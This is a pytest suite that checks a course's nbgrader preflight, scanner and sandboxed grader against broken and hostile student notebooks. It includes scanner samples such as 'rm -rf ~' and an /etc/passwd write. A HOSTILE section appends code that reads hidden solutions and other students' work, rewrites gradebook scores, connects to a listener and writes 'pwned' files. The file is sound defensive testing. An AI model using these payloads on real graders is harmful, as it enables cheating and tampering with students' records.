"""Grading that survives real submissions: an adversarial class graded in one nbgrader batch.

Each case is the reference solution of topic 01 (or its blank release) broken the way students break
notebooks. All of them go through `python -m coursetools preflight` and then one
`nbgrader autograde --CourseDirectory.submitted_directory=preflight` run, as docs/instructors.md says.
Every case states the auto-graded cells it must lose and what the pre-flight must report.
The hostile cases at the end (HOSTILE) are graded by `python -m coursetools grade` in its sandbox instead: each
tries to read the hidden tests, the gradebook or another student, to reach the network or to write outside its
folder, and must gain nothing.
"""

import copy
import hashlib
import html as html_lib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import numpy as np
import pytest
from nbgrader.api import Gradebook

from coursetools.feedback import hidden_lines
from grading_support import make_submission
from coursetools.preflight import format_reports, preflight_assignment
from coursetools.scan import scan_notebook, scan_source
from nnlib.testing import check_close, check_uses

TOPIC = "01_gradient_descent"
CELL_TIMEOUT = 10  # seconds; the course's own config allows 120, the infinite loop needs only to be cut
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


def _find(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _replace_body(nb, grade_id, body):
    cell = nb.cells[_find(nb, grade_id)]
    header = cell.source.split("### BEGIN SOLUTION")[0].rstrip(" ")
    cell.source = header + body
    return nb


def infinite_loop(nb):
    return _replace_body(nb, "f", "    while True:\n        pass\n")


def exception_in_answer(nb):
    return _replace_body(nb, "df", "    raise ValueError('I gave up')\n")


def million_lines(nb):
    cell = nb.cells[_find(nb, "f")]
    cell.source += "\n\nfor _i in range(10**6):\n    print(_i)\n"
    return nb


def delete_answer(nb):
    del nb.cells[_find(nb, "df")]
    return nb


def delete_test(nb):
    del nb.cells[_find(nb, "test_df")]
    return nb


def delete_written(nb):
    del nb.cells[_find(nb, "why_diverge")]  # the cell before it in the release is read-only
    return nb


def edit_test(nb):
    _replace_body(nb, "f", "    return x**2\n")  # wrong answer ...
    nb.cells[_find(nb, "test_f")].source = "assert True  # ... and a test that no longer tests"
    return nb


def extra_cells(nb):
    at = _find(nb, "df")
    nb.cells.insert(at, nbformat.v4.new_markdown_cell("My notes: f is convex."))
    nb.cells.insert(at, nbformat.v4.new_code_cell("import math\nhelper = math.sqrt(2)\nprint(helper)"))
    nb.cells.append(nbformat.v4.new_code_cell("print('scratch work')"))
    return nb


def strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def to_code(nb):
    at = _find(nb, "why_diverge")  # the written (markdown) answer, turned into a code cell
    cell = nb.cells[at]
    nb.cells[at] = nbformat.v4.new_code_cell(cell.source, metadata=cell.metadata)
    return nb


def to_code_and_strip(nb):
    return strip_metadata(to_code(nb))


def duplicate_answer(nb):
    at = _find(nb, "f")
    twin = copy.deepcopy(nb.cells[at])  # "duplicate cell" in JupyterLab keeps the metadata, not the cell id
    twin["id"] = "duplicate-of-f"
    nb.cells.insert(at + 1, twin)
    return nb


def reorder(nb):
    i, j = _find(nb, "f"), _find(nb, "test_f")
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]  # the test now runs before f exists
    return nb


def monkeypatch(nb):
    _replace_body(nb, "f", "    return x**2\n")  # wrong ...
    nb.cells[_find(nb, "f")].source += "\n\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
    return nb


def rebind_helper(nb):
    _replace_body(nb, "f", "    return x**2\n")  # wrong, and the checker silenced: only the scan can see it
    nb.cells[_find(nb, "f")].source += "\n\ncheck_close = lambda *args, **kwargs: None\n"
    return nb


def unrelated_warning(nb):
    cell = nb.cells[_find(nb, "f")]
    cell.source = ("import warnings\n\n" + cell.source.replace(
        "    ### BEGIN SOLUTION\n",
        "    ### BEGIN SOLUTION\n    warnings.warn('this API is deprecated', DeprecationWarning)\n"))
    return nb


def as_student(solution, release):
    """The release with every answer cell filled in from the reference solution: a perfect student."""
    return make_submission(solution, release, "reference")


# name -> (notebook to start from, change, file name, auto-graded cells that must score 0, pre-flight words)
CASES = {
    "reference": ("solution", None, None, set(), []),
    "blank": ("release", None, None, "all", []),
    "infinite_loop": ("solution", infinite_loop, None, {"test_f"}, []),
    "exception": ("solution", exception_in_answer, None, {"test_df"}, []),
    "million_lines": ("solution", million_lines, None, set(), []),
    "deleted_answer": ("solution", delete_answer, None, {"test_df"}, ["answer cell 'df' is missing"]),
    "deleted_test": ("solution", delete_test, None, set(), ["test cell 'test_df' is missing"]),
    "deleted_written_answer": ("solution", delete_written, None, set(), ["answer cell 'why_diverge' is missing"]),
    "edited_test": ("solution", edit_test, None, {"test_f"}, ["locked cell 'test_f' was edited"]),
    "extra_cells": ("solution", extra_cells, None, set(), []),
    "renamed": ("solution", None, f"{TOPIC} (1).ipynb", set(), [f"graded '{TOPIC} (1).ipynb'"]),
    "stripped_metadata": ("solution", strip_metadata, None, set(), ["restored the metadata"]),
    "reordered": ("solution", reorder, None, set(), ["restored the release's order"]),
    "type_changed": ("solution", to_code, None, set(), ["'why_diverge' had been changed to code"]),
    "type_changed_stripped": ("solution", to_code_and_strip, None, set(),
                              ["restored the metadata of cell 'why_diverge'", "'why_diverge' had been changed to code"]),
    "duplicate_id": ("solution", duplicate_answer, None, set(), ["duplicate grade id 'f'"]),
    "monkeypatch": ("solution", monkeypatch, None, {"test_f"}, ["reassigns np.allclose"]),
    # Python code can always defeat checks that run in its own process; the scan flags it for the instructor.
    # Here the other helpers (check_dtype on an integer input) still catch the wrong answer.
    "rebound_helper": ("solution", rebind_helper, None, {"test_f"}, ["rebinds the test helper check_close"]),
    "unrelated_warning": ("solution", unrelated_warning, None, set(), []),
}


def _sha(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def adversarial(tmp_path_factory, course_root):
    if not (course_root / "solutions" / TOPIC / f"{TOPIC}.ipynb").is_file():
        pytest.skip(f"topic {TOPIC} has no solution notebook yet")
    root = tmp_path_factory.mktemp("adversarial")
    shutil.copytree(course_root / "solutions" / TOPIC, root / "solutions" / TOPIC)
    shutil.copytree(course_root / "assignments" / TOPIC, root / "assignments" / TOPIC)
    config = (course_root / "nbgrader_config.py").read_text()
    (root / "nbgrader_config.py").write_text(config + f"\nc.ExecutePreprocessor.timeout = {CELL_TIMEOUT}\n")
    env = dict(os.environ, PATH=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))

    def nbgrader(*args, timeout=900):
        return subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=root, env=env,
                              capture_output=True, text=True, timeout=timeout)

    # the gradebook needs the assignment; the committed release is kept as it is (--force not needed)
    shutil.move(root / "assignments" / TOPIC, root / "committed_release")
    generated = nbgrader("generate_assignment", TOPIC)
    assert generated.returncode == 0, generated.stderr[-3000:]
    solution = nbformat.read(root / "solutions" / TOPIC / f"{TOPIC}.ipynb", as_version=4)
    release = nbformat.read(root / "assignments" / TOPIC / f"{TOPIC}.ipynb", as_version=4)
    answered = as_student(solution, release)
    hashes = {}
    for name, (start, change, filename, _, _) in CASES.items():
        nb = copy.deepcopy(answered if start == "solution" else release)
        nb = change(nb) if change else nb
        path = root / "submitted" / name / TOPIC / (filename or f"{TOPIC}.ipynb")
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
        (path.parent / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC")
        hashes[path] = _sha(path)

    reports = {r.student: r for r in preflight_assignment(TOPIC, root)}
    autograde = nbgrader("autograde", TOPIC, "--CourseDirectory.submitted_directory=preflight")
    feedback = nbgrader("generate_feedback", TOPIC)
    points = {c.metadata.nbgrader["grade_id"]: c.metadata.nbgrader["points"]
              for c in release.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"}
    scores = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for name in CASES:
            try:
                sub = gb.find_submission(TOPIC, name)
            except Exception:  # noqa: BLE001  (a missing submission is reported by the tests)
                continue
            scores[name] = {g.name: g.auto_score for nb in sub.notebooks for g in nb.grades if g.name in points}
    table = [f"{'case':<24} {'expected':>8} {'got':>6}  pre-flight"]
    for name, (_, _, _, lost, _) in CASES.items():
        lost = set(points) if lost == "all" else lost
        expected = sum(p for g, p in points.items() if g not in lost)
        got = sum(v or 0 for v in scores.get(name, {}).values()) if name in scores else None
        table.append(f"{name:<24} {expected:>8} {got if got is not None else '-':>6}  {reports[name].status}")
    print("\n".join(table))
    print(format_reports(list(reports.values())))
    return dict(root=root, hashes=hashes, reports=reports, autograde=autograde, feedback=feedback,
                points=points, scores=scores, solution=solution, release=release)


def test_the_batch_completes(adversarial):
    out = adversarial["autograde"]
    assert set(adversarial["scores"]) == set(CASES), out.stdout[-2000:] + out.stderr[-4000:]


@pytest.mark.parametrize("case", list(CASES))
def test_case_scores_as_expected(adversarial, case):
    lost = CASES[case][3]
    lost = set(adversarial["points"]) if lost == "all" else lost
    got = adversarial["scores"][case]
    assert set(got) == set(adversarial["points"]), f"{case}: graded cells {sorted(got)}"
    wrong = {g: (got[g], 0 if g in lost else p) for g, p in adversarial["points"].items()
             if got[g] != (0 if g in lost else p)}
    assert not wrong, f"{case}: cell -> (got, expected): {wrong}"


@pytest.mark.parametrize("case", [c for c in CASES if CASES[c][4]])
def test_preflight_reports(adversarial, case):
    report = adversarial["reports"][case]
    said = " | ".join(report.repairs + report.flags + report.scan)
    for words in CASES[case][4]:
        assert words in said, f"{case}: expected {words!r} in the pre-flight report: {said}"


def test_clean_submissions_are_not_flagged(adversarial):
    for case in ("reference", "million_lines", "unrelated_warning", "exception"):
        assert adversarial["reports"][case].status == "ok", adversarial["reports"][case]


def test_autograde_warns_only_about_the_edited_test_cell(adversarial):
    """Honest test cells lack only the hidden tests: the pre-flight gives them back, so nbgrader's checksum
    warning (an instructor reads it as tampering) is left for the one real edit (case "edited_test")."""
    out = adversarial["autograde"]
    changed = re.findall(r"Attribute 'checksum' for cell (\w+) has changed", out.stdout + out.stderr)
    assert changed == ["test_f"], changed


def test_hand_placed_submissions_get_what_release_feedback_needs(adversarial, tmp_path):
    """Submissions placed by hand have no timestamp.txt / submission_secret.txt (the exchange writes them)."""
    root = adversarial["root"]
    for name in ("reference", "renamed"):
        for f in ("timestamp.txt", "submission_secret.txt"):
            assert (root / "preflight" / name / TOPIC / f).is_file(), (name, f)
    assert (root / "preflight" / "reference" / TOPIC / "timestamp.txt").read_text() == "2026-11-20 10:00:00.000000 UTC"
    src = tmp_path / "submitted" / "hand" / TOPIC
    src.mkdir(parents=True)
    shutil.copy(root / "committed_release" / f"{TOPIC}.ipynb", src)
    os.utime(src / f"{TOPIC}.ipynb", (1764000000, 1764000000))
    shutil.copytree(root / "assignments", tmp_path / "assignments")
    (report,) = preflight_assignment(TOPIC, tmp_path)
    assert (tmp_path / "preflight" / "hand" / TOPIC / "timestamp.txt").read_text() == "2025-11-24 16:00:00.000000 UTC"
    assert len((tmp_path / "preflight" / "hand" / TOPIC / "submission_secret.txt").read_text()) == 32
    assert any("no timestamp.txt" in r for r in report.repairs), report


def test_originals_are_never_modified(adversarial):
    for path, digest in adversarial["hashes"].items():
        assert path.exists() and _sha(path) == digest, path


def test_feedback_has_no_hidden_test_line(adversarial):
    assert adversarial["feedback"].returncode == 0, adversarial["feedback"].stderr[-3000:]
    # lines of the hidden blocks that the release does not also show (e.g. a recipe in the instructions)
    release_text = "\n".join(c.source for c in adversarial["release"].cells)
    secrets = [line for cell in adversarial["solution"].cells if cell.cell_type == "code"
               for line in hidden_lines(cell.source) if len(line) > 12 and line not in release_text]
    assert secrets, "the solution notebook should have hidden tests"
    pages = sorted((adversarial["root"] / "feedback").glob(f"*/{TOPIC}/*.html"))
    assert len(pages) >= len(CASES) - 1, pages  # every graded case gets a page
    leaks = []
    for page in pages:
        html = page.read_text()
        text = html_lib.unescape(html)
        leaks += [(page.parent.parent.name, s) for s in secrets if s in text or s in html]
    assert not leaks, f"hidden test lines in feedback: {leaks[:5]}"


def test_feedback_still_says_why_a_test_failed(adversarial):
    page = adversarial["root"] / "feedback" / "exception" / TOPIC / f"{TOPIC}.html"
    assert "I gave up" in page.read_text()


@pytest.mark.parametrize("source, kind", [
    ("np.allclose = lambda *a, **k: True", "tamper"),
    ("import nnlib.testing\nnnlib.testing.check_close = print", "tamper"),
    ("check_close = lambda *a: None", "tamper"),
    ("setattr(np, 'isclose', None)", "tamper"),
    ("import builtins\nbuiltins.print = len", "tamper"),
    ("open('/etc/passwd', 'w').write('x')", "file"),
    ("open('../grades.csv', 'a')", "file"),
    ("import shutil\nshutil.rmtree('autograded')", "file"),
    ("import subprocess\nsubprocess.run(['ls'])", "process"),
    ("import os\nos.system('ls')", "process"),
    ("!rm -rf ~", "process"),
    ("%%bash\necho hi", "process"),
    # through import aliases, namespaces and keyword arguments
    ("import numpy as xp\nxp.allclose = lambda *a, **k: True", "tamper"),
    ("from nnlib import testing as t\nt.check_close = print", "tamper"),
    ("import nnlib.testing as T\nT.check_close = print", "tamper"),
    ("from numpy import testing as nt\nsetattr(nt, 'assert_allclose', print)", "tamper"),
    ("np.__dict__['allclose'] = lambda *a, **k: True", "tamper"),
    ("globals()['check_close'] = print", "tamper"),
    ("import sys\nsys.modules['numpy'] = None", "tamper"),
    ("open(file='/tmp/x', mode='w')", "file"),
    ("import os\nos.makedirs('/tmp/evil', exist_ok=True)", "file"),
    ("import os as o\no.system('ls')", "process"),
    ("import shutil as sh\nsh.rmtree('..')", "file"),
])
def test_scan_flags(source, kind):
    assert kind in {f.kind for f in scan_source(source)}, scan_source(source)


@pytest.mark.parametrize("source", [
    "x = np.exp(-x) + x**2",
    "with open('notes.txt', 'w') as fh:\n    fh.write('ok')",
    "import numpy as np\nresult = np.allclose(a, b)",
    "def f(x):\n    return x",
    "%matplotlib inline\nplt.plot([1, 2])",
    "import numpy as xp\nw = xp.zeros(3)\nw[0] = 1.0\nw += xp.ones(3)",
    "from nnlib import Sequential, Dense\nmodel = Sequential([Dense(2)])\nmodel.name = 'mine'",
    "import os\nos.makedirs('plots', exist_ok=True)\nopen(file='plots/notes.txt', mode='w')",
    "d = {}\nd['check_close'] = 1",
])
def test_scan_leaves_ordinary_code_alone(source):
    assert scan_source(source) == []


def test_scan_follows_aliases_made_in_other_cells():
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("import numpy as xp", metadata={"nbgrader": {"locked": True}}),
        nbformat.v4.new_code_cell("xp.isclose = lambda *a, **k: True"),
    ])
    assert [(f.cell, f.kind) for f in scan_notebook(nb)] == [(1, "tamper")]


def test_scan_allows_what_the_assignment_asks_for():
    source = "def check_close(a, b):\n    return abs(a - b) < 1e-9"
    assert [f.kind for f in scan_source(source)] == ["tamper"]
    assert scan_source(source, allowed={"check_close"}) == []


# ---------------------------------------------------------------- follow-on failures name their cause

def _softmax_wrong_axis(z):
    return np.exp(z) / np.exp(z).sum(axis=0)


def test_check_uses_names_the_earlier_function_that_fails():
    def loss(z):  # a later part that calls the student's softmax
        return float(-np.log(_softmax_wrong_axis(z)[0, 0]))

    with pytest.raises(AssertionError, match=r"this part uses your `_softmax_wrong_axis`, which fails its own "
                                             r"tests: fix it first \(softmax\(\[\[0, 0\]\]\): 2 of 2 values differ"):
        check_uses(loss, "_softmax_wrong_axis",
                   lambda: check_close("softmax([[0, 0]])", _softmax_wrong_axis(np.zeros((1, 2))), [[0.5, 0.5]]))


def test_check_uses_holds_only_a_function_that_calls_it():
    def tanh_grad(x):  # uses np.tanh, an attribute named like the student's `tanh`, not the student's function
        return 1 - np.tanh(x) ** 2

    calls = []
    check_uses(tanh_grad, "tanh", lambda: calls.append("checked") or check_close("x", 1.0, 2.0))
    assert calls == []
    with pytest.raises(AssertionError, match=r"this part uses your `_blank`, which fails its own tests: fix it first "
                                             r"\(NotImplementedError\)"):
        check_uses(lambda x: 2 * _blank(x), "_blank", lambda: _blank(0.0))


def _blank(x):
    raise NotImplementedError()


# ---- Hostile submissions, graded by `python -m coursetools grade` in its sandbox ----
# Each is the reference solution (so its expected score is full marks) with an attack appended to its first
# answer cell, except `sets_own_score`, whose answers are all wrong. `{course}` is the course folder, `{home}`
# the grading user's home, `{port}` a listener this test opens on 127.0.0.1. Each attack prints what it got.
HOSTILE = {
    "reads_solutions": ("reference", """
for _p in ['{course}/solutions/{topic}/{topic}.ipynb', '../../../../../../solutions/{topic}/{topic}.ipynb']:
    try:
        print(open(_p).read())
    except Exception as _e:
        print('cannot read', _p, type(_e).__name__)
"""),
    "writes_gradebook": ("reference", """
import sqlite3
try:
    _c = sqlite3.connect('{course}/gradebook.db')
    _c.execute('UPDATE grade SET auto_score = 0')
    _c.commit()
    print('gradebook zeroed')
except Exception as _e:
    print('cannot write the gradebook', type(_e).__name__, _e)
"""),
    "sets_own_score": ("wrong", """
import glob, sqlite3
for _db in ['{course}/gradebook.db'] + glob.glob('../../../*.db') + glob.glob('/tmp/*/*.db'):
    try:
        _c = sqlite3.connect(_db)
        _c.execute('UPDATE grade SET auto_score = 100')
        _c.commit()
        print('score set in', _db)
    except Exception as _e:
        print('cannot set a score in', _db, type(_e).__name__)
"""),
    "reads_other_student": ("reference", """
for _p in ['{course}/submitted/victim/{topic}/{topic}.ipynb', '{course}/preflight/victim/{topic}/{topic}.ipynb',
           '{course}/.grading/{topic}/graded/victim/{topic}/{topic}.ipynb', '../../victim/{topic}/{topic}.ipynb']:
    try:
        print(open(_p).read())
    except Exception as _e:
        print('cannot read', _p, type(_e).__name__)
"""),
    "connects_out": ("reference", """
import socket
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')
    print('connected')
except Exception as _e:
    print('no connection', type(_e).__name__, _e)
"""),
    "writes_home_and_course": ("reference", """
for _p in ['{home}/pwned-by-student.txt', '{course}/pwned-by-student.txt', '{course}/assignments/pwned.txt']:
    try:
        open(_p, 'w').write('pwned')
        print('wrote', _p)
    except Exception as _e:
        print('cannot write', _p, type(_e).__name__)
"""),
}
VICTIM_SECRET = "victim-secret-7d41"


@pytest.fixture(scope="module")
def hostile(sandbox, tmp_path_factory, course_root):
    import socket
    import threading

    from coursetools.grade import read_scores
    from grading_support import add_submissions, make_course

    course = make_course(course_root, tmp_path_factory.mktemp("hostile") / "course", [TOPIC])
    solution = nbformat.read(course / "solutions" / TOPIC / f"{TOPIC}.ipynb", as_version=4)
    release = nbformat.read(course / "assignments" / TOPIC / f"{TOPIC}.ipynb", as_version=4)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    connections, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                pass
    threading.Thread(target=accept, daemon=True).start()
    fill = dict(course=course, topic=TOPIC, home=Path.home(), port=listener.getsockname()[1])
    students = {"victim": make_submission(solution, release, "reference")}
    students["victim"].cells[0].source += f"\n<!-- {VICTIM_SECRET} -->"
    for name, (kind, attack) in HOSTILE.items():
        nb = make_submission(solution, release, kind)
        first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code")
        first.source += "\n\n" + attack.format(**fill)
        students[name] = nb
    add_submissions(course, TOPIC, students)
    env = dict(os.environ, PATH=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
    graded = subprocess.run([sys.executable, "-m", "coursetools", "grade", TOPIC, "--workers", "2",
                             "--cell-timeout", str(CELL_TIMEOUT)], cwd=course, env=env, capture_output=True,
                            text=True, timeout=900)
    feedback = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", TOPIC], cwd=course, env=env,
                              capture_output=True, text=True, timeout=900)
    stop.set()
    listener.close()
    totals = {s: sum(v or 0 for v in (read_scores(f"sqlite:///{course / 'gradebook.db'}", TOPIC, s) or {}).values())
              for s in students}
    expected = {s: totals["victim"] if s == "victim" or HOSTILE[s][0] == "reference" else 0 for s in students}
    table = [f"{'hostile case':<24} {'expected':>8} {'got':>6}  what the attack printed (first line)"]
    for s in HOSTILE:
        nb = nbformat.read(course / "autograded" / s / TOPIC / f"{TOPIC}.ipynb", as_version=4)
        said = [o.get("text", "") for c in nb.cells for o in c.get("outputs", []) if o.get("name") == "stdout"]
        table.append(f"{s:<24} {expected[s]:>8} {totals[s]:>6}  {(said[0].splitlines() or [''])[0][:70] if said else ''}")
    print("\n".join(table))
    return dict(course=course, graded=graded, feedback=feedback, totals=totals, expected=expected,
                connections=connections, solution=solution, release=release, home=Path.home())


def test_hostile_class_is_graded(hostile):
    graded = hostile["graded"]
    assert graded.returncode == 0, graded.stdout[-3000:] + graded.stderr[-3000:]
    assert hostile["totals"]["victim"] > 0


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_case_gains_nothing(hostile, case):
    assert hostile["totals"][case] == hostile["expected"][case], (case, hostile["totals"])
    assert hostile["totals"]["victim"] == hostile["expected"]["victim"]  # and nobody else lost anything


def _secrets(solution, release):
    release_text = "\n".join(c.source for c in release.cells)
    return [line for cell in solution.cells if cell.cell_type == "code" for line in hidden_lines(cell.source)
            if len(line) > 12 and line not in release_text]


def test_no_hidden_test_in_outputs_or_feedback(hostile):
    secrets = _secrets(hostile["solution"], hostile["release"])
    assert secrets
    course = hostile["course"]
    assert hostile["feedback"].returncode == 0, hostile["feedback"].stderr[-3000:]
    for case in HOSTILE:
        # the autograded notebook's *sources* hold the hidden tests by nbgrader's design; what the student's
        # code printed (its outputs) and the feedback page must not
        nb = nbformat.read(course / "autograded" / case / TOPIC / f"{TOPIC}.ipynb", as_version=4)
        graded = json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False)
        graded += "\n".join(str(o.get("text", "")) for c in nb.cells for o in c.get("outputs", []))
        page = html_lib.unescape((course / "feedback" / case / TOPIC / f"{TOPIC}.html").read_text())
        leaks = [s for s in secrets if s in graded or s in page]
        assert not leaks, (case, leaks[:3])
        assert VICTIM_SECRET not in graded and VICTIM_SECRET not in page, case


def test_no_connection_reached_the_listener(hostile):
    assert hostile["connections"] == []


def test_nothing_written_outside_the_sandbox(hostile):
    course = hostile["course"]
    for path in (hostile["home"] / "pwned-by-student.txt", course / "pwned-by-student.txt",
                 course / "assignments" / "pwned.txt"):
        assert not path.exists(), path
